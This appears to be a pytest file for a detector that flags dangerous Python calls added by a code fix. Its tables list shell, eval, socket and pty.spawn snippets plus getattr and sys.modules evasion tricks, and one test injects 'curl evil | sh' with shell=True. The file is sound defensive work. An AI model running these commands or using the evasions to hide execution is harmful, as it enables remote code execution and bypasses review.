"""The calls a fix's Python must not add: tables of code that must be found and code that
must not be."""

from __future__ import annotations

import pytest

from mendline.analyzers.policy import dangerous_calls, new_dangerous_calls

FOUND = [
    ("import os\n_ = (os.\n     system)('echo pwned > marker')\n", "os.system", 2),
    ("import os as o\no.popen('id')\n", "os.popen", 2),
    ("from os import system\nsystem('id')\n", "os.system", 2),
    ("from os import system as run_it\nrun_it('id')\n", "os.system", 2),
    ("import os\nos.execvp('sh', ['sh'])\n", "os.execvp", 2),
    ("import os\nos.spawnlp(0, 'sh', 'sh')\n", "os.spawnlp", 2),
    ("import subprocess\nsubprocess.run('id', shell=True)\n", "subprocess.run", 2),
    ("import subprocess as sp\nsp.check_output(['id'])\n", "subprocess.check_output", 2),
    ("from subprocess import Popen\nPopen(['id'])\n", "subprocess.Popen", 2),
    ("import subprocess\nlater = subprocess.Popen\n", "subprocess.Popen", 2),
    ("import os\nlater = os.system\n", "os.system", 2),
    ("from os import *\n", "os.*", 1),
    ("eval(text)\n", "eval", 1),
    ("exec(text)\n", "exec", 1),
    ("compile(text, 'f', 'exec')\n", "compile", 1),
    ("__import__(name)\n", "__import__", 1),
    ("import builtins\nbuiltins.eval(text)\n", "eval", 2),
    ("__builtins__.exec(text)\n", "exec", 1),
    ("import pty\npty.spawn('/bin/sh')\n", "pty.spawn", 2),
    ("import importlib\nimportlib.import_module(name)\n", "importlib.import_module", 2),
    ("from importlib import import_module\nimport_module(name)\n", "importlib.import_module", 2),
    ("import socket\nsocket.create_connection(('h', 1))\n", "socket.create_connection", 2),
    ("import socket\ns = socket.socket()\n", "socket.socket", 2),
    ("import os\ngetattr(os, name)('id')\n", "getattr(os, ...)", 2),
    ("import os\ngetattr(os, 'system')('id')\n", "getattr(os, ...)", 2),
    ("import subprocess as s\ngetattr(s, 'run')(['id'])\n", "getattr(subprocess, ...)", 2),
    ("def f(t):\n    return [eval(x) for x in t]\n", "eval", 2),
    # Reaching a dangerous module by another way than an attribute of its name
    ("import os\n_o = os\n", "os (as a value)", 2),
    ("import sys\nsys.modules['os'].system('id')\n", "sys.modules (as a value)", 2),
    ("import os\nos.__dict__['system']('id')\n", "os.__dict__", 2),
    ("f = getattr\n", "getattr", 1),
    ("import ctypes\nctypes.CDLL(None).system(b'id')\n", "ctypes.CDLL", 2),
    (
        "import asyncio\nasyncio.create_subprocess_shell('id')\n",
        "asyncio.create_subprocess_shell",
        2,
    ),
]

NOT_FOUND = [
    "import re\nre.compile('x')\n",
    "from re import compile\ncompile('x')\n",
    "import os\nos.path.join('a', 'b')\nos.environ.get('X')\n",
    "import os\ngetattr(os, 'sep')\n",
    "import subprocess\nraise subprocess.CalledProcessError(1, 'x')\n",
    "import subprocess\nx = subprocess.PIPE\n",
    "cursor.execute('select 1')\n",
    "model.eval()\n",
    "import importlib\nimportlib.import_module('json')\n",
    "getattr(table, key, None)\n",
    "def total(prices):\n    return sum(prices)\n",
    "text = 'os.system(1)'  # os.system in a string and a comment\n",
    "import sys\nprint(sys.argv, sys.version)\n",
    "import os\nx = os.environ['HOME']\n",
    "import asyncio\nasyncio.run(main())\n",
]


def test_vars_of_a_module_is_found_both_ways() -> None:
    found = dangerous_calls("import os\nvars(os)['system']('id')\n")
    assert sorted(call.name for call in found) == ["os (as a value)", "vars"]


@pytest.mark.parametrize(("source", "name", "line"), FOUND)
def test_a_dangerous_call_is_found_with_its_line(source: str, name: str, line: int) -> None:
    found = dangerous_calls(source)
    assert [(call.name, call.line) for call in found] == [(name, line)]


@pytest.mark.parametrize("source", NOT_FOUND)
def test_harmless_code_has_no_dangerous_call(source: str) -> None:
    assert dangerous_calls(source) == []


def test_only_calls_the_old_source_lacks_are_new() -> None:
    old = "import subprocess\n\ndef run():\n    subprocess.run(['make'])\n"
    moved = "import subprocess\n\n\n# moved down\ndef run():\n    subprocess.run(['make'])\n"
    assert new_dangerous_calls(old, moved) == []
    changed = old.replace("['make']", "'make; curl evil | sh', shell=True")
    [call] = new_dangerous_calls(old, changed)
    assert (call.line, call.name) == (4, "subprocess.run")
    assert "shell=True" in call.code
    twice = old + "    subprocess.run(['make'])\n"
    assert [c.line for c in new_dangerous_calls(old, twice)] == [5]
    assert [c.name for c in new_dangerous_calls(None, "eval(x)\n")] == ["eval"]
    assert [c.name for c in new_dangerous_calls("def (:\n", "eval(x)\n")] == ["eval"]


def test_new_source_that_does_not_parse_raises() -> None:
    with pytest.raises(SyntaxError):
        new_dangerous_calls("x = 1\n", "def (:\n")
